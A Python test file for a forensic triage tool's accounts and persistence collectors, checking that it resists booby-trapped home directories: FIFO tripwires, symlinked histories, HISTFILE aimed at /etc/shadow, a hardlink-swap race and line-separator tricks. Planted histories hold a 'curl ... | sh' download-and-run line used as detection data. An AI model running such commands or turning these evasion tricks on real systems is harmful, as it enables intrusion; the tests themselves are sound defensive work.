"""A user's home is theirs to booby-trap: the accounts and persistence collectors read it
on a host planted in a private mount namespace (tests/hostns.py), where alice (home
/srv/alice, before bob in /etc/passwd) has planted what an intruder with her account can.

- FIFOs where her start-up and history files are, each with a writer blocked in
  ``open``: the moment the tool opens one, that writer wakes (a tripwire that tells the
  intruder a responder is here, before anything is preserved). No FIFO may be opened.
- Her ``.bash_history`` a symlink to bob's: the history is collected by its real path,
  so bob's own file must still be collected, read and judged as bob's.

And a faillog whose times no calendar holds."""

from __future__ import annotations

import contextlib
import io
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import journal_records, requires_root
from hostns import run_on_planted_host

from collectors import persistence
from collectors.accounts import AccountsCollector
from collectors.context import CollectContext
from collectors.histories import history_lines
from collectors.lastlog import FAILLOG, parse_faillog
from collectors.logprofile import load_profile
from collectors.persistpkg import PackageIndex
from collectors.ruleset import load_rules
from collectors.systemdstate import read_state

PASSWD = """root:x:0:0:root:/root:/bin/bash
alice:x:1000:1000::/srv/alice:/bin/bash
bob:x:1001:1001::/srv/bob:/bin/bash
"""
TRAPS = (".bashrc", ".profile", ".bash_history", ".ssh/authorized_keys", ".zsh_history")
SETUP = f"""
cat > /etc/passwd <<'EOF'
{PASSWD}EOF
mkdir -p /srv/alice/.ssh /srv/bob
printf 'ls\\ncurl -s http://203.0.113.5/x | sh\\n' > /srv/bob/.bash_history
for f in {" ".join(TRAPS)}; do
    mkfifo "/srv/alice/$f"
    # A writer blocked until someone opens the FIFO to read it: then it says so.
    (exec 3>"/srv/alice/$f"; echo "$f" >> /mnt/out/tripped) </dev/null >/dev/null 2>&1 &
    echo $! >> /mnt/out/writers
done
"""


def _reap(out: Path) -> None:
    """The writers still blocked in ``open`` outlive the run: end them (ours, by PID)."""
    for line in (out / "writers").read_text().split():
        with contextlib.suppress(ProcessLookupError):
            os.kill(int(line), signal.SIGKILL)


def test_fifos_in_a_home_are_never_opened(tmp_path: Path) -> None:
    try:
        summary, evidence = run_on_planted_host(tmp_path, SETUP, "--only", "accounts,persistence")
    finally:
        _reap(tmp_path / "out")
    tripped = tmp_path / "out/tripped"
    assert not tripped.exists(), f"opened: {tripped.read_text().split()}"
    assert summary["status"] == "complete", summary
    listed = json.loads((evidence / "artifacts/accounts/histories.json").read_text())
    assert not any(row["path"].startswith("/srv/alice/") for row in listed)


def test_a_history_symlinked_to_anothers_does_not_hide_it(tmp_path: Path) -> None:
    setup = SETUP.replace(
        "for f in", "ln -s /srv/bob/.bash_history /srv/alice/.bash_history\nfor f in"
    ).replace(".bash_history .ssh", ".ssh")
    try:
        summary, evidence = run_on_planted_host(tmp_path, setup, "--only", "accounts")
    finally:
        _reap(tmp_path / "out")
    listed = json.loads((evidence / "artifacts/accounts/histories.json").read_text())
    [bob] = [row for row in listed if row["path"] == "/srv/bob/.bash_history"]
    assert bob["user"] == "bob" and bob["commands"] == 2
    stored = evidence / bob["artifact"]
    assert b"203.0.113.5" in stored.read_bytes()
    records = journal_records(evidence)
    found = {(r["rule"], r["source"]["path"]) for r in records if r.get("event") == "finding"}
    assert ("history-download-and-run", "/srv/bob/.bash_history") in found
    [link] = [
        r for r in records
        if r.get("type") == "skipped" and r["source"]["path"] == "/srv/alice/.bash_history"
    ]  # fmt: skip
    assert "symlink" in link["reason"]


def test_a_faillog_time_past_any_calendar_is_kept_as_a_number(tmp_path: Path) -> None:
    """``fail_time`` is a 64-bit ``time_t``: year 36812 (2**40 s) or past ``time_t``'s own
    range must not stop the parse (the accounts collector would fail with it)."""
    log = tmp_path / "faillog"
    records = [FAILLOG.pack(3, 0, b"ssh", when, 0) for when in (2**40, 2**62, 1_700_000_000)]
    log.write_bytes(b"".join(records))
    rows = parse_faillog(os.fsencode(log), {2: "alice"})
    assert [r["time_s"] for r in rows] == [2**40, 2**62, 1_700_000_000]
    assert [r["time"] for r in rows][:2] == [None, None]
    assert rows[2]["time"].startswith("2023-11-14T22:13:20") and rows[2]["user"] == "alice"


def test_a_startup_file_grown_after_the_walk_is_copied_as_the_walk_saw_it(
    ctx: CollectContext, tmp_path: Path
) -> None:
    """Between the walk's ``lstat`` (the size the caps were checked against) and the
    copy, persistence reads the file for its facts: an owner watching for that open can
    extend it (sparse: it costs her nothing) before the copy opens it. The copy is of
    the size the walk saw, not of what the file became."""
    home = tmp_path / "srv/alice"
    home.mkdir(parents=True)
    bashrc = home / ".bashrc"
    bashrc.write_bytes(b"export PATH=$HOME/bin:$PATH\n")
    seen = os.lstat(bashrc)
    os.truncate(bashrc, 256 * 1024 * 1024)  # what her watcher does on the first open
    root = os.fsencode(tmp_path)
    triage = load_profile(None).triage
    run = persistence._Run(
        ctx, "persistence", root, triage, PackageIndex(None), read_state(root, [])
    )
    run.facts_out = run.links_out = io.BytesIO()
    run.entry(os.fsencode(bashrc), None, seen, "startup-file", "alice")
    ctx.engine.drain()
    [record] = [r for r in journal_records(ctx.root) if r.get("type") == "artifact"]
    assert record["size"] == seen.st_size and record["source"]["path"].endswith(".bashrc")


def test_a_histfile_a_user_points_at_a_secret_is_not_copied(tmp_path: Path) -> None:
    """``HISTFILE=/etc/shadow`` in alice's own ``.bashrc``: her shell could never write
    there, so it is not her history, and copying it would put the host's password hashes
    (or root's SSH key) on the evidence drive on her say-so. Her real custom history,
    a file she owns, is still collected."""
    setup = f"""
cat > /etc/passwd <<'EOF'
{PASSWD}EOF
printf 'root:$6$salt$SECRETHASH:19000:0:99999:7:::\\n' > /etc/shadow
mkdir -p /srv/alice /root/.ssh
printf 'HISTFILE=/etc/shadow\\nHISTFILE=/root/.ssh/id_rsa\\nHISTFILE=~/.h\\n' > /srv/alice/.bashrc
printf 'ls -la\\n' > /srv/alice/.h
chown -R 1000:1000 /srv/alice
"""
    summary, evidence = run_on_planted_host(tmp_path, setup, "--only", "accounts")
    for path in evidence.rglob("*"):
        if path.is_file():
            assert b"SECRETHASH" not in path.read_bytes(), path
    listed = json.loads((evidence / "artifacts/accounts/histories.json").read_text())
    assert [r["path"] for r in listed if r["user"] == "alice"] == ["/srv/alice/.h"]
    records = journal_records(evidence)
    [shadow] = [
        r for r in records if r.get("type") == "skipped" and r["source"]["path"] == "/etc/shadow"
    ]
    assert "owned by" in shadow["reason"]


@pytest.mark.parametrize("sep", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\r"])
def test_a_history_line_is_not_cut_at_a_separator_the_shell_does_not_break_at(sep: str) -> None:
    """bash writes one command a line, ending at ``\\n``; ``str.splitlines`` also breaks at
    ``\\x0b``, NEL, U+2028... so ``curl URL <VT>| sh`` became two lines and no
    ``history-download-and-run`` (a shell treats the VT as part of a word)."""
    command = f"curl -s http://203.0.113.5/x {sep}| sh"
    text = f"ls\n{command}\nid\n"
    assert [line for _, line, _ in history_lines(text, "bash")] == ["ls", command, "id"]
    [rule] = [
        r for r in load_rules().for_fact("history-line") if r.id == "history-download-and-run"
    ]
    fact = {"path": "/srv/a/.bash_history", "user": "a", "shell": "bash", "line": command,
            "line_no": 2}  # fmt: skip
    assert rule.when.holds(fact)


_SWAPPER = """
import os, sys
target, mine, theirs = map(os.fsencode, sys.argv[1:])
spare = target + b".swap"
print("swapping", flush=True)
while True:
    for source in (theirs, mine):  # (a rename onto a link of itself does nothing)
        os.link(source, spare)
        os.rename(spare, target)
"""


@requires_root
def test_a_histfile_swapped_for_anothers_file_after_its_check_is_not_copied(
    ctx: CollectContext, tmp_path: Path
) -> None:
    """alice's ``HISTFILE=~/.h`` is her own file, checked to be hers, and then, as fast
    as she can rename, a link to a root-owned file: whatever the path holds when it is
    copied and read for the rules must be the file that was checked, never root's."""
    root = tmp_path / "host"
    home = root / "srv/alice"
    home.mkdir(parents=True)
    (root / "etc").mkdir()
    (root / "etc/passwd").write_text(PASSWD)
    (home / ".bashrc").write_text("HISTFILE=~/.h\n")
    mine, theirs = home / ".mine", tmp_path / "root-owned"
    mine.write_text("ls -la\n")
    theirs.write_text("curl -s http://203.0.113.5/SECRETHASH | sh\n")
    os.link(mine, home / ".h")
    os.chown(home, 1000, 1000)
    os.chown(mine, 1000, 1000)
    os.chown(home / ".bashrc", 1000, 1000)
    collector = AccountsCollector()
    collector.root = os.fsencode(root)
    swapper = subprocess.Popen(
        [sys.executable, "-c", _SWAPPER, home / ".h", mine, theirs], stdout=subprocess.PIPE
    )
    try:
        assert swapper.stdout is not None and swapper.stdout.readline() == b"swapping\n"
        for _ in range(150):
            collector.collect(ctx)
    finally:
        swapper.kill()
        swapper.wait()
    records = journal_records(ctx.root)
    copied = [r for r in records if r.get("type") == "artifact" and r.get("kind") == "history"]
    refused = [r for r in records if "owned by uid 0" in r.get("reason", "")]
    assert copied and refused  # both were there to be seen, and it ran with each
    for path in ctx.root.rglob("*"):
        if path.is_file():
            assert b"SECRETHASH" not in path.read_bytes(), path
